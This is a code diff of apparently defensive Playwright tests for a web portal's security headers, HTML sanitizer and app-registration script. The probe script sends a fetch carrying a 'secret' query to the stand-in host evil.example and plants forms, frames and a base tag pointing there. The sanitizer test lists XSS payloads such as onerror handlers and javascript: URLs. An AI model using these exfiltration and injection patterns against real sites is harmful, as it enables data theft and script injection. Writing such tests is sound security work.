@@ -1,35 +1,46 @@
 // What each header of the table is for: a page tries what it forbids and what the portal needs, and without any one header
 // or directive something comes out otherwise.
+import { execFileSync } from 'node:child_process';
+import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { isDeepStrictEqual } from 'node:util';
 import { test } from '@playwright/test';
 import { expect } from '../support/journey.mjs';
 import { asHeader, asMeta, headersOf, origins, pagePolicy, redirectPolicy } from '../../../web/hosting/policy.mjs';
+import { inert } from '../../../web/js/inert.js';
 import { listen } from '../support/listen.mjs';
 import { portalDist } from '../support/programs.mjs';
 import { servePortal } from '../support/portal-server.mjs';
-import { readFileSync } from 'node:fs';
 
 const POLICY = 'Content-Security-Policy';
 
-/** With all headers: what was refused, and what else a page of ours and one of another host found. */
-const EXPECTED = {
+/** With all headers: what a page of the portal's host was refused, and what worked there. */
+const HERE = {
   refused: ['base-uri', 'connect-src', 'font-src', 'form-action', 'frame-src', 'img-src', 'object-src', 'require-trusted-types-for', 'trusted-types'],
   sniffed: false,
   camera: false,
-  referrer: undefined,
-  framed: false,
-  opener: false,
-  embedded: false,
+  fetched: true,
+  styled: true,
+  pictured: true,
+  framing: true,
 };
 
+/** With all headers: what a page of another host can do with it. */
+const ABROAD = { referrer: undefined, framed: false, opener: false, embedded: false };
+
+/** The headers and the directive whose lack is seen from there. */
+const SEEN_ABROAD = ['frame-ancestors', 'Cross-Origin-Opener-Policy', 'Cross-Origin-Resource-Policy', 'Referrer-Policy'];
+
 const PROBE = `<!doctype html><link rel="stylesheet" href="app.css"><script src="probe.txt"></script><script type="module" src="probe.js"></script>
-<iframe name="own" title="own" src="auth.html"></iframe><img alt="" src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA="><embed src="favicon.svg">`;
+<iframe name="own" title="own" src="own.html"></iframe><iframe name="sink" title="sink"></iframe><img alt="" src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA="><embed src="favicon.svg">`;
 
 /** Runs in the page: everything that a policy could refuse. */
 const SCRIPT = `
 const refused = new Set();
 document.addEventListener('securitypolicyviolation', (event) => refused.add(event.effectiveDirective));
 const tried = async (work) => { try { await work(); } catch {} };
-await tried(() => fetch('config.json'));
+const fetched = await fetch('config.json').then((answer) => answer.ok, () => false);
 await tried(() => fetch('https://evil.example/?secret'));
 await tried(() => new FontFace('x', 'url(data:font/woff2;base64,AA)').load());
 await tried(() => (document.createElement('div').innerHTML = '<b>x</b>'));
@@ -38,11 +49,15 @@ const add = (name, members) => document.body.append(Object.assign(document.creat
 add('img', { src: 'https://evil.example/x.png' });
 add('iframe', { src: 'https://evil.example/' });
 add('base', { href: 'https://evil.example/' });
-const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/', target: 'own' });
+const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/', target: 'sink' });
 document.body.append(form);
 form.submit();
 window.parent.postMessage('framed', '*');
-globalThis.result = () => ({ refused: [...refused].sort(), sniffed: Boolean(globalThis.sniffed), camera: document.featurePolicy.allowsFeature('camera') });
+globalThis.result = () => ({ refused: [...refused].sort(), sniffed: Boolean(globalThis.sniffed), camera: document.featurePolicy.allowsFeature('camera'),
+  fetched, styled: getComputedStyle(document.documentElement).getPropertyValue('--colorNeutralBackground1') !== '', pictured: document.images[0].naturalWidth > 0, framing: framing() });
+function framing() {
+  try { return frames.own.document.title !== ''; } catch { return false; }
+}
 `;
 
 /** A page of another site: it frames the portal, opens it, and shows a picture of it. */
@@ -64,7 +79,8 @@ test('without any one header or directive, something comes out otherwise', async
   site.files['probe.html'] = PROBE;
   site.files['probe.js'] = SCRIPT;
   site.files['probe.txt'] = 'globalThis.sniffed = true;';
-  site.headers = (name) => (name === 'auth.html' ? {} : { ...answer.headers, [POLICY]: asHeader(answer.policy) });
+  site.files['own.html'] = '<!doctype html><title>own</title>';
+  site.headers = (name) => (name === 'own.html' ? {} : { ...answer.headers, [POLICY]: asHeader(answer.policy) });
   const other = await listen((request, response) => {
     referrer = request.headers.referer;
     response.setHeader('Content-Type', 'text/html').end(OTHER(site.url));
@@ -72,47 +88,55 @@ test('without any one header or directive, something comes out otherwise', async
   const otherHome = `http://127.0.0.1:${other.port}/`;
 
   /** What comes of it all with these headers. */
-  async function outcome(headers, policy) {
+  async function outcome(headers, policy, isAbroad) {
     answer = { headers, policy };
     const context = await browser.newContext();
     await context.route('https://evil.example/**', (route) => route.abort());
     try {
       const page = await context.newPage();
       await page.goto(`${site.url}probe.html`);
-      // a policy that refuses our own scripts refuses the probe
-      const ran = await page.waitForFunction(() => globalThis.result, undefined, { timeout: 2_000 }).then(() => true, () => false);
-      if (!ran) return { ran };
-      await page.waitForTimeout(300);
-      const ours = await page.evaluate(() => globalThis.result());
-      referrer = undefined;
-      await page.evaluate((url) => void (location.href = url), otherHome);
-      await page.waitForURL(otherHome);
-      await page.waitForLoadState();
-      const opened = context.waitForEvent('page');
-      await page.evaluate('void open()');
-      const tab = await opened;
-      await tab.waitForLoadState();
-      const opener = await tab.evaluate(() => window.opener !== null);
-      return { ...ours, referrer, opener, ...(await page.evaluate('found')) };
+      return await (isAbroad ? abroad(context, page) : here(page));
     } finally {
       await context.close();
     }
   }
 
+  async function here(page) {
+    // a policy that refuses our own scripts refuses the probe
+    const ran = await page.waitForFunction(() => globalThis.result, undefined, { timeout: 2_000 }).then(() => true, () => false);
+    await page.waitForTimeout(200);
+    return ran ? page.evaluate(() => globalThis.result()) : {};
+  }
+
+  async function abroad(context, page) {
+    await page.waitForTimeout(500);
+    await page.evaluate((url) => void (location.href = url), otherHome);
+    await page.waitForURL(otherHome);
+    await page.waitForLoadState();
+    const referredBy = referrer;
+    const opened = context.waitForEvent('page');
+    await page.evaluate('void open()');
+    const tab = await opened;
+    await tab.waitForLoadState();
+    const opener = await tab.evaluate(() => window.opener !== null);
+    return { referrer: referredBy, opener, ...(await page.evaluate('found')) };
+  }
+
   try {
-    expect(await outcome(all, whole)).toEqual(EXPECTED);
+    expect(await outcome(all, whole, false)).toEqual(HERE);
+    expect(await outcome(all, whole, true)).toEqual(ABROAD);
     const missed = [];
     for (const directive of Object.keys(whole)) {
-      // what is in no other directive is in default-src: plug-ins are refused by both
+      const isAbroad = SEEN_ABROAD.includes(directive);
+      // what no directive names is held by default-src: plug-ins are refused by both
       const base = directive === 'object-src' ? without(whole, 'default-src') : whole;
-      const before = base === whole ? EXPECTED : await outcome(all, base);
-      const after = await outcome(all, without(base, directive));
-      if (JSON.stringify(Object.entries(after).sort()) === JSON.stringify(Object.entries(before).sort())) missed.push(directive);
+      const before = base === whole ? (isAbroad ? ABROAD : HERE) : await outcome(all, base, false);
+      if (isDeepStrictEqual(await outcome(all, without(base, directive), isAbroad), before)) missed.push(directive);
     }
-    // that sign-in needs encryption is the browser's affair, which heeds no such header on this computer; the cache has its own test
+    // encryption is not asked for on this computer, and the cache has its own test
     for (const header of Object.keys(without(without(all, 'Strict-Transport-Security'), 'Cache-Control'))) {
-      const after = await outcome(without(all, header), whole);
-      if (JSON.stringify(Object.entries(after).sort()) === JSON.stringify(Object.entries(EXPECTED).sort())) missed.push(header);
+      const isAbroad = SEEN_ABROAD.includes(header);
+      if (isDeepStrictEqual(await outcome(without(all, header), whole, isAbroad), isAbroad ? ABROAD : HERE)) missed.push(header);
     }
     expect(missed).toEqual([]);
   } finally {
@@ -137,4 +161,35 @@ test('a config.json names the hosts of the policy, and no other', () => {
     expect(() => origins({ clientId: 'x', graphBaseUrl: wrong }), wrong).toThrow('no address');
   }
   expect(() => origins({ clientId: 'x', cloud: 'moon' })).toThrow('`moon`');
+});
+
+test('markup becomes elements only where it can do nothing', () => {
+  for (const good of ['<h2 id="a" tabindex="-1">Access</h2>', '<li><p>one &amp; <strong>two</strong></p></li>', '<a class="button" href="rules/index.html" rel="external">All</a>', '<span aria-hidden="true">‹</span>']) {
+    expect(inert(good), good).toBe(true);
+  }
+  const bad = ['<script>1</script>', '<img src=x onerror=alert(1)>', '<p onclick="x">', '<p class="a"onclick="x">', '<p/onclick=x>', '<p\nonclick="x">', '<p style="x">', '<iframe src="x">', '<form>', '<base href="x">', '<style>', '<svg><script>', '<use href="#x">', '<!--', '<p title="<script>">',
+    '<a href="javascript:alert(1)">', '<a href="&#106;avascript:x">', '<a href="//evil.example">', '<a href="/\\evil.example">', '<a href="https://evil.example/">', '<a href="x" href="javascript:1">', '<a xlink:href="x">', '<button formaction="x">'];
+  for (const markup of bad) expect(inert(markup), markup).toBe(false);
+});
+
+test('the script that registers the portal writes its config.json', () => {
+  const folder = mkdtempSync(path.join(tmpdir(), 'accesspack-register-'));
+  // the Azure CLI, as far as the script needs it
+  const az = `#!/usr/bin/env bash
+echo "$*" >> "${folder}/calls"
+case "$1 $2 $3" in
+  "ad app create") echo 11111111-1111-4111-8111-111111111111 ;;
+  "ad app show") echo 22222222-2222-4222-8222-222222222222 ;;
+  "ad sp show") echo "id of \${6}" ;;
+  "cloud show --query") echo https://graph.microsoft.com/ ;;
+  "account show --query") echo 33333333-3333-4333-8333-333333333333 ;;
+esac
+`;
+  writeFileSync(path.join(folder, 'az'), az, { mode: 0o755 });
+  const script = new URL('../../../web/hosting/register.sh', import.meta.url).pathname;
+  execFileSync('bash', [script, 'https://portal.example/access'], { cwd: folder, env: { ...process.env, PATH: `${folder}:${process.env.PATH}` } });
+  expect(JSON.parse(readFileSync(path.join(folder, 'config.json'), 'utf8'))).toEqual({ clientId: '11111111-1111-4111-8111-111111111111', tenantId: '33333333-3333-4333-8333-333333333333' });
+  const calls = readFileSync(path.join(folder, 'calls'), 'utf8');
+  expect(calls).toContain('{"spa":{"redirectUris":["https://portal.example/access/auth.html","https://portal.example/access/"]}}');
+  expect(calls.match(/ad app permission add/g)).toHaveLength(3);
 });
